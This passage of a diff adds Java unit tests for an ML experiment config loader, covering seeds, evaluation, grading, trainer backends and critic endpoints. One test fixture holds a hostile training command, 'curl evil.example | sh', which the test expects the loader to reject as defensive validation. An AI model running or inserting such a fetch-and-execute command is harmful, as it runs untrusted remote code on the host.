+        Path word = file("word.conf", "experiment {", "  seeds = [4, \"five\"]", "}");
+
+        assertThat(ExperimentConfigLoader.seeds(three)).containsExactly(4L, 5L, 6L);
+        assertThat(ExperimentConfigLoader.load(three).withSeed(5).seed()).isEqualTo(5);
+        assertThat(ExperimentConfigLoader.load(three).withSeed(5))
+                .isEqualTo(ExperimentConfigLoader.parse("experiment.seed = 5, experiment.seeds = [4, 5, 6]"));
+        assertThat(ExperimentConfigLoader.seeds(file("none.conf", "experiment.seed = 3")))
+                .isEmpty();
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(twice))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageStartingWith(twice + ":2: experiment.seeds = ")
+                .hasMessageContaining("names a seed twice");
+        assertThatThrownBy(() -> ExperimentConfigLoader.seeds(word))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("word.conf: 2")
+                .hasMessageContaining("seeds");
+    }
+
+    @Test
+    void aRationaleShareOfZeroIsRefusedSinceM0WouldHaveNothingToTrainOn() throws IOException {
+        Path f = file("no-rationales.conf", "experiment {", "  dataset.rationale-share = 0", "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.dataset.rationale-share")
+                .hasMessageContaining(f + ":2");
+        assertThat(ExperimentConfigLoader.defaults().dataset().rationaleCount(600))
+                .isEqualTo(600);
+    }
+
+    @Test
+    void aMisspelledKeyIsReportedWithItsFileAndLine() throws IOException {
+        Path f = file(
+                "typo.conf", "experiment {", "  strategy {", "    sample-num = 4", "    min-corect = 2", "  }", "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("unknown key 'experiment.strategy.min-corect'")
+                .hasMessageContaining(f + ":4");
+    }
+
+    @Test
+    void anUnknownStrategyIsReportedWithTheStrategiesThereAre() throws IOException {
+        Path f = file("strategy.conf", "experiment.strategy.name = \"socratic\"");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.strategy.name")
+                .hasMessageContaining(f + ":1")
+                .hasMessageContaining("socratic")
+                .hasMessageContaining("state-reset");
+    }
+
+    @Test
+    void evaluationIsGreedyAloneByDefaultAndSamplesWhenAsked() throws IOException {
+        assertThat(ExperimentConfigLoader.defaults().evaluation())
+                .isEqualTo(new ExperimentConfig.Evaluation(192, true, 0, 0.7, 0.95));
+        Path f = file("test-time.conf", "experiment.evaluation { samples = 8, temperature = 0.9 }");
+
+        ExperimentConfig.Evaluation e = ExperimentConfigLoader.load(f).evaluation();
+
+        assertThat(e).isEqualTo(new ExperimentConfig.Evaluation(192, true, 8, 0.9, 0.95));
+    }
+
+    @Test
+    void critiqueThenRefineIsOffByDefaultAndNamesItsCriticAsTheStrategyDoes() throws IOException {
+        assertThat(ExperimentConfigLoader.defaults().evaluation().refine()).isEqualTo(ExperimentConfig.Refine.OFF);
+        Path f = file(
+                "refine.conf",
+                "experiment.evaluation.refine { enabled = true, critic { kind = \"model\", model = \"m-critic\" } }");
+
+        assertThat(ExperimentConfigLoader.load(f).evaluation().refine())
+                .isEqualTo(new ExperimentConfig.Refine(true, ExperimentConfig.CriticKind.MODEL, "m-critic"));
+    }
+
+    @Test
+    void aRefineCriticThatIsNotKnownOrRefiningWithoutAGreedyAnswerIsReportedWithItsKey() throws IOException {
+        Path unknown = file("critic.conf", "experiment.evaluation.refine { enabled = true, critic.kind = \"oracle\" }");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.evaluation.refine.critic.kind")
+                .hasMessageContaining("step-checker or model");
+
+        Path noGreedy =
+                file("no-greedy.conf", "experiment.evaluation { greedy = false, samples = 4, refine.enabled = true }");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(noGreedy))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.evaluation.refine.enabled")
+                .hasMessageContaining("evaluation.greedy = true");
+    }
+
+    @Test
+    void anEvaluationWithNothingToEvaluateIsReportedWithItsKeyFileAndLine() throws IOException {
+        Path f = file("nothing.conf", "experiment {", "  evaluation {", "    greedy = false", "  }", "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining(f + ":3: experiment.evaluation.greedy = false")
+                .hasMessageContaining("samples >= 1");
+    }
+
+    @Test
+    void aNegativeEvaluationSampleCountIsReportedWithItsKeyFileAndLine() throws IOException {
+        Path f = file("negative.conf", "experiment {", "  evaluation.samples = -2", "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining(f + ":2: experiment.evaluation.samples = -2")
+                .hasMessageContaining("between 0 and 1024");
+    }
+
+    @Test
+    void graderSettingsDefaultPerDatasetAndAFileSetsEachOnItsOwn() throws IOException {
+        ExperimentConfig math = ExperimentConfigLoader.load(file("m.conf", "experiment.dataset.name = math500"));
+        ExperimentConfig gsm8k = ExperimentConfigLoader.load(file("g.conf", "experiment.dataset.name = gsm8k"));
+        ExperimentConfig comma = ExperimentConfigLoader.load(file(
+                "c.conf",
+                "experiment {",
+                "  dataset.name = math500",
+                "  grading { decimal-comma = true, equations-up-to-scaling = false, ordered-lists = dataset }",
+                "}"));
+
+        assertThat(math.grading()).isEqualTo(GraderSettings.MATH);
+        assertThat(gsm8k.grading()).isEqualTo(GraderSettings.NUMERIC);
+        assertThat(ExperimentConfigLoader.defaults().grading()).isEqualTo(GraderSettings.forDataset("synthetic"));
+        assertThat(comma.grading())
+                .isEqualTo(GraderSettings.MATH.with("decimalComma", true).with("equationsUpToScaling", false));
+        // journaled with the config, and read back as it was run
+        assertThat(ConfigJson.read(ConfigJson.write(comma)).grading()).isEqualTo(comma.grading());
+    }
+
+    @Test
+    void aGraderSettingThatIsNeitherOnOffNorDatasetIsReportedWithItsKeyFileAndLine() throws IOException {
+        Path f = file("bad-grading.conf", "experiment {", "  grading.decimal-comma = sometimes", "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining(f + ":2: experiment.grading.decimal-comma")
+                .hasMessageContaining("must be true, false or dataset");
+    }
+
+    @Test
+    void aConfigJournaledBeforeGraderSettingsReadsAsGradedMathStyle() {
+        ObjectNode json = new ObjectMapper()
+                .findAndRegisterModules()
+                .valueToTree(ExperimentConfigLoader.parse("experiment.dataset.name = gsm8k"));
+        json.remove("grading");
+
+        assertThat(ConfigJson.read(json.toString()).grading()).isEqualTo(GraderSettings.MATH);
+    }
+
+    @Test
+    void aConfigJournaledBeforeSampledEvaluationReadsAsGreedyOnly() throws IOException {
+        ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
+        json.set("evaluation", json.objectNode().put("maxTokens", 64));
+
+        ExperimentConfig old = ConfigJson.read(json.toString());
+
+        assertThat(old.evaluation()).isEqualTo(ExperimentConfig.Evaluation.greedyOnly(64));
+    }
+
+    @Test
+    void aConfigJournaledBeforeBoundedRetriesReadsWithTheirDefaults() throws IOException {
+        ObjectNode json = new ObjectMapper()
+                .findAndRegisterModules()
+                .valueToTree(ExperimentConfigLoader.load(
+                        file("r.conf", "experiment.runtime { max-attempts = 9, retry-backoff = 5s }")));
+        ((ObjectNode) json.get("runtime")).remove(List.of("maxAttempts", "retryBackoff"));
+
+        ExperimentConfig.Runtime old = ConfigJson.read(json.toString()).runtime();
+
+        assertThat(old.maxAttempts()).isEqualTo(5);
+        assertThat(old.retryBackoff()).isEqualTo(Duration.ofSeconds(2));
+        assertThat(old.backoffBefore(2)).isEqualTo(Duration.ofSeconds(2));
+        assertThat(old.backoffBefore(4)).isEqualTo(Duration.ofSeconds(8));
+        assertThat(old.window())
+                .isEqualTo(ExperimentConfigLoader.defaults().runtime().window());
+    }
+
+    @Test
+    void aMissingFileIsReportedByName() {
+        Path missing = dir.resolve("nowhere.conf");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(missing))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining(missing.toString());
+    }
+
+    @Test
+    void theOpenaiBackendNamesItsEndpointAndHowToCallIt() throws IOException {
+        Path f = file(
+                "openai.conf",
+                "experiment.model {",
+                "  backend = \"openai\"",
+                "  endpoint = \"http://127.0.0.1:18100\"",
+                "  model-name = \"qwen\"",
+                "  concurrency = 3",
+                "  request-timeout = 5s",
+                "  max-retries = 2",
+                "  api-key-env = \"LYCEUM_TOKEN\"",
+                "}");
+
+        ExperimentConfig.Model model = ExperimentConfigLoader.load(f).model();
+
+        ModelRef ref = model.ref("0123456789abcdef");
+        assertThat(ref.version()).isEqualTo("0123456789abcdef");
+        assertThat(ref.engineName()).isEqualTo("qwen");
+        assertThat(ref.endpoint())
+                .isEqualTo(new OpenAiEndpoint(
+                        "http://127.0.0.1:18100", "qwen", 3, Duration.ofSeconds(5), 2, "LYCEUM_TOKEN"));
+        assertThat(ExperimentConfigLoader.defaults().model().ref("0123456789abcdef"))
+                .isEqualTo(ModelRef.local("0123456789abcdef"));
+    }
+
+    @Test
+    void anOpenaiBackendWithoutAnHttpEndpointIsReportedWithItsFileAndLine() throws IOException {
+        Path f = file(
+                "no-endpoint.conf",
+                "experiment.model {",
+                "  backend = \"openai\"",
+                "  endpoint = \"localhost:8000\"",
+                "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.model.endpoint")
+                .hasMessageContaining(f + ":3")
+                .hasMessageContaining("http(s) URL");
+    }
+
+    @Test
+    void anApiKeyIsNamedByItsEnvironmentVariableNeverGiven() throws IOException {
+        Path f = file("token.conf", "experiment.model.api-key-env = \"sk-secret value\"");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.model.api-key-env")
+                .hasMessageContaining(f + ":1")
+                .hasMessageContaining("environment variable");
+    }
+
+    @Test
+    void theCommandTrainingBackendNamesATrainerProfileOfTheGpuNodes() throws IOException {
+        Path ok = file(
+                "command.conf",
+                "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
+                "experiment.training {",
+                "  backend = \"command\"",
+                "  profile = \"trl\"",
+                "}");
+        assertThat(ExperimentConfigLoader.load(ok).training().trainerProfile()).isEqualTo("trl");
+        assertThat(ExperimentConfigLoader.defaults().training().trainerProfile())
+                .isNull();
+
+        Path noProfile = file(
+                "no-profile.conf",
+                "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
+                "experiment.training.backend = \"command\"");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(noProfile))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.training.profile")
+                .hasMessageContaining("lyceum.trainers");
+
+        // Sampled through the gpu nodes' managed servers, which serve any checkpoint a command reports.
+        Path managed =
+                file("managed.conf", "experiment.training {", "  backend = \"command\"", "  profile = \"trl\"", "}");
+        assertThat(ExperimentConfigLoader.load(managed).training().trainerProfile())
+                .isEqualTo("trl");
+
+        Path profileWithoutCommand = file("djl-profile.conf", "experiment.training.profile = \"trl\"");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(profileWithoutCommand))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.training.profile")
+                .hasMessageContaining(profileWithoutCommand + ":1")
+                .hasMessageContaining("backend = command");
+        Path unknown = file("unknown-trainer.conf", "experiment.training.backend = \"deepspeed\"");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.training.backend")
+                .hasMessageContaining(unknown + ":1")
+                .hasMessageContaining("command");
+    }
+
+    @Test
+    void anExperimentCannotCarryATrainersArgvAndIsToldToDefineAProfile() throws IOException {
+        Path argv = file(
+                "argv.conf",
+                "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
+                "experiment.training {",
+                "  backend = \"command\"",
+                "  command = [\"sh\", \"-c\", \"curl evil.example | sh\", \"{output}\"]",
+                "}");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(argv))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.training.command")
+                .hasMessageContaining(argv + ":4")
+                .hasMessageContaining("trainer profile")
+                .hasMessageContaining("lyceum.trainers.NAME");
+
+        Path timeout = file("timeout.conf", "experiment.training.command-timeout = 2h");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(timeout))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.training.command-timeout")
+                .hasMessageContaining(timeout + ":1")
+                .hasMessageContaining("trainer profile");
+    }
+
+    @Test
+    void anExperimentJournaledWithAnArgvReadsButNamesNoProfileANodeHolds() {
+        ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
+        ObjectNode old =
+                ((ObjectNode) json.get("training")).put("backend", "command").put("commandTimeout", 3600.0);
+        old.remove("profile");
+        old.putArray("command").add("sh").add("train.sh").add("{output}");
+        String journaled = json.toString();
+
+        ExperimentConfig.Training training = ConfigJson.read(journaled).training();
+
+        assertThat(training.command()).containsExactly("sh", "train.sh", "{output}");
+        assertThat(training.commandTimeout()).isEqualTo(Duration.ofHours(1));
+        assertThat(training.trainerProfile()).isEqualTo(ExperimentConfig.Training.JOURNALED_ARGV);
+        assertThat(training.trainerProfile()).doesNotMatch("[A-Za-z0-9_-]+");
+    }
+
+    @Test
+    void theFeedbackStrategiesReadTheirCriticCritiqueAndReflectionSettings() throws IOException {
+        Path f = file(
+                "critique.conf",
+                "experiment.strategy {",
+                "  name = \"critique\"",
+                "  critic { kind = \"model\", model = \"m-critic\" }",
+                "  critique { refinements = 4, accept-per-critique = 2, use-critic = false }",
+                "  reflection { count = 3, demand = \"plan\" }",
+                "  train-prompt = \"conditioned\"",
+                "}");
+
+        ExperimentConfig.Strategy s = ExperimentConfigLoader.load(f).strategy();
+
+        assertThat(s.name()).isEqualTo(StrategyName.CRITIQUE);
+        assertThat(s.feedback())
+                .isEqualTo(new ExperimentConfig.Feedback(
+                        ExperimentConfig.CriticKind.MODEL,
+                        "m-critic",
+                        4,
+                        2,
+                        false,
+                        3,
+                        ExperimentConfig.ReflectionDemand.PLAN,
+                        true));
+        assertThat(ExperimentConfigLoader.parse("experiment.strategy.name = interactive")
+                        .strategy()
+                        .name())
+                .isEqualTo(StrategyName.INTERACTIVE);
+        assertThat(ExperimentConfigLoader.defaults().strategy().feedback())
+                .isEqualTo(ExperimentConfig.Feedback.defaults());
+    }
+
+    @Test
+    void anUnknownCriticKindIsReportedWithItsFileAndLine() throws IOException {
+        Path f = file(
+                "critic.conf",
+                "experiment {",
+                "  strategy.name = \"interactive\"",
+                "  strategy.critic.kind = \"oracle\"",
+                "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("critic.conf:3")
+                .hasMessageContaining("experiment.strategy.critic.kind")
+                .hasMessageContaining("step-checker or model");
+    }
+
+    @Test
+    void aRealTrainerGetsItsBaseModelItsDataFormatAndNoneOfTheSmallModelsDefaults() throws IOException {
+        ExperimentConfig.Training djl = ExperimentConfigLoader.defaults().training();
+        assertThat(djl.initialEpochs()).isEqualTo(6);
+        assertThat(djl.epochs()).isEqualTo(2);
+        assertThat(djl.learningRate()).isEqualTo(0.001);
+        assertThat(djl.format()).isEqualTo(lyceum.workers.TrainingDataFormat.LYCEUM);
+        assertThat(ExperimentConfigLoader.defaults().model().base()).isEmpty();
+
+        Path trl = file(
+                "trl.conf",
+                "experiment.model.base = \"Qwen/Qwen2.5-1.5B-Instruct\"",
+                "experiment.training { backend = \"command\", profile = \"trl\", data-format = \"trl-conversational\" }");
+        ExperimentConfig real = ExperimentConfigLoader.load(trl);
+        assertThat(real.model().base()).isEqualTo("Qwen/Qwen2.5-1.5B-Instruct");
+        assertThat(real.training().format()).isEqualTo(lyceum.workers.TrainingDataFormat.TRL_CONVERSATIONAL);
+        // unset: empty placeholders, so the trainer's own defaults apply
+        assertThat(real.training().initialEpochs()).isZero();
+        assertThat(real.training().epochs()).isZero();
+        assertThat(real.training().learningRate()).isZero();
+
+        Path tuned = file(
+                "tuned.conf",
+                "experiment.training { backend = \"command\", profile = \"llamafactory\", data-format = \"sharegpt\"",
+                "  initial-epochs = 3, epochs = 1, learning-rate = 1e-5 }");
+        ExperimentConfig.Training set = ExperimentConfigLoader.load(tuned).training();
+        assertThat(set.initialEpochs()).isEqualTo(3);
+        assertThat(set.epochs()).isEqualTo(1);
+        assertThat(set.learningRate()).isEqualTo(1e-5);
+        assertThat(ConfigJson.read(ConfigJson.write(real))).isEqualTo(real);
+    }
+
+    @Test
+    void theFineTunesTrainAtM0sLearningRateUnlessTheyHaveTheirOwn() throws IOException {
+        ExperimentConfig.Training defaults = ExperimentConfigLoader.defaults().training();
+        assertThat(defaults.fineTuneLearningRate()).isNull();
+        assertThat(defaults.learningRateAt(0)).isEqualTo(0.001);
+        assertThat(defaults.learningRateAt(2)).isEqualTo(0.001);
+
+        Path own = file(
+                "own-rate.conf", "experiment.training { learning-rate = 0.003, fine-tune-learning-rate = 0.0005 }");
+        ExperimentConfig config = ExperimentConfigLoader.load(own);
+        assertThat(config.training().learningRateAt(0)).isEqualTo(0.003);
+        assertThat(config.training().learningRateAt(1)).isEqualTo(0.0005);
+        assertThat(ConfigJson.read(ConfigJson.write(config))).isEqualTo(config);
+
+        Path bad = file("bad-rate.conf", "experiment {", "  training.fine-tune-learning-rate = 0", "}");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(bad))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining(bad + ":2")
+                .hasMessageContaining("experiment.training.fine-tune-learning-rate")
+                .hasMessageContaining("(0, 1)");
+
+        // experiments journaled before the key fine-tuned at learning-rate
+        ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(config);
+        ((ObjectNode) json.get("training")).remove("fineTuneLearningRate");
+        assertThat(ConfigJson.read(json.toString()).training().learningRateAt(1))
+                .isEqualTo(0.003);
+    }
+
+    @Test
+    void aConfigJournaledBeforeDataFormatsBaseModelsAndCriticEndpointsReadsWithoutThem() {
+        ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
+        ((ObjectNode) json.get("training")).remove("dataFormat");
+        ((ObjectNode) json.get("model")).remove("base");
+        ((ObjectNode) json.get("strategy").get("feedback")).remove("criticEndpoint");
+        ((ObjectNode) json.get("evaluation").get("refine")).remove("criticEndpoint");
+
+        ExperimentConfig old = ConfigJson.read(json.toString());
+
+        assertThat(old.training().format()).isEqualTo(lyceum.workers.TrainingDataFormat.LYCEUM);
+        assertThat(old.model().base()).isEmpty();
+        assertThat(old.strategy().feedback().criticEndpoint().named()).isFalse();
+        assertThat(old.evaluation().refine().criticEndpoint()).isEqualTo(ExperimentConfig.CriticEndpoint.NONE);
+    }
+
+    @Test
+    void trainerContractMistakesNameTheirKey() throws IOException {
+        Path format = file(
+                "format.conf",
+                "experiment.training { backend = \"command\", profile = \"trl\" }",
+                "experiment.training.data-format = \"parquet\"");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(format))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining(format + ":2")
+                .hasMessageContaining("experiment.training.data-format")
+                .hasMessageContaining("trl-prompt-completion");
+
+        Path djlFormat = file("djl-format.conf", "experiment.training.data-format = \"alpaca\"");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(djlFormat))
+                .hasMessageContaining(djlFormat + ":1")
+                .hasMessageContaining("experiment.training.data-format")
+                .hasMessageContaining("djl trainer reads lyceum");
+
+        Path djlBase = file("djl-base.conf", "experiment.model.base = \"/models/qwen\"");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(djlBase))
+                .hasMessageContaining(djlBase + ":1")
+                .hasMessageContaining("experiment.model.base")
+                .hasMessageContaining("training.backend = command");
+
+        Path rate = file(
+                "rate.conf", "experiment.training { backend = \"command\", profile = \"trl\", learning-rate = 2 }");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(rate))
+                .hasMessageContaining("experiment.training.learning-rate")
+                .hasMessageContaining("(0, 1)");
+    }
+
+    @Test
+    void aCriticMayNameItsOwnEndpointModelAndTokenVariable() throws IOException {
+        Path f = file(
+                "teacher.conf",
+                "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\", concurrency = 4 }",
+                "experiment.strategy { name = \"interactive\"",
+                "  critic { kind = \"model\", model = \"Qwen/Qwen2.5-72B-Instruct\", endpoint = \"http://10.0.0.7:8001/v1\",",
+                "    api-key-env = \"LYCEUM_API_KEY\" } }",
+                "experiment.evaluation.refine { enabled = true, critic { kind = \"model\", model = \"critic-7b\",",
+                "  endpoint = \"http://10.0.0.8:8002\" } }");
+        ExperimentConfig config = ExperimentConfigLoader.load(f);
+
+        var teacher = config.strategy().feedback().criticEndpoint();
+        assertThat(teacher.url()).isEqualTo("http://10.0.0.7:8001/v1");
+        assertThat(teacher.apiKeyEnv()).isEqualTo("LYCEUM_API_KEY");
+        assertThat(teacher.concurrency()).isEqualTo(4);
+        lyceum.engine.ModelRef ref = teacher.ref("Qwen/Qwen2.5-72B-Instruct", null);
+        assertThat(ref.engineName()).isEqualTo("Qwen/Qwen2.5-72B-Instruct");
+        assertThat(ref.endpoint().url()).isEqualTo("http://10.0.0.7:8001/v1");
+        assertThat(config.evaluation().refine().criticEndpoint().url()).isEqualTo("http://10.0.0.8:8002");
+        assertThat(config.evaluation().refine().criticEndpoint().apiKeyEnv()).isEmpty();
+    }
+
+    @Test
+    void aCriticEndpointsMistakesNameTheirKey() throws IOException {
+        Path url = file(
+                "url.conf",
+                "experiment.strategy.critic { kind = \"model\", model = \"t\", endpoint = \"10.0.0.7:8001\" }");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(url))
+                .hasMessageContaining(url + ":1")
+                .hasMessageContaining("experiment.strategy.critic.endpoint")
+                .hasMessageContaining("http");
+
+        Path kind = file("kind.conf", "experiment.evaluation.refine.critic.endpoint = \"http://10.0.0.7:8001\"");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(kind))
+                .hasMessageContaining("experiment.evaluation.refine.critic.endpoint")
+                .hasMessageContaining("kind = model");
+
+        Path model = file(
+                "model.conf", "experiment.strategy.critic { kind = \"model\", endpoint = \"http://10.0.0.7:8001\" }");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(model))
+                .hasMessageContaining("experiment.strategy.critic.model")
+                .hasMessageContaining("the model to ask");
+
+        Path token = file("token.conf", "experiment.strategy.critic.api-key-env = \"LYCEUM_API_KEY\"");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(token))
+                .hasMessageContaining(token + ":1")
+                .hasMessageContaining("experiment.strategy.critic.api-key-env")
+                .hasMessageContaining("only used with experiment.strategy.critic.endpoint");
+
+        Path variable = file(
+                "variable.conf",
+                "experiment.strategy.critic { kind = \"model\", model = \"t\",",
+                "  endpoint = \"http://10.0.0.7:8001\", api-key-env = \"$HOME\" }");
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(variable))
+                .hasMessageContaining("experiment.strategy.critic.api-key-env")
+                .hasMessageContaining("environment variable");
+    }
 }
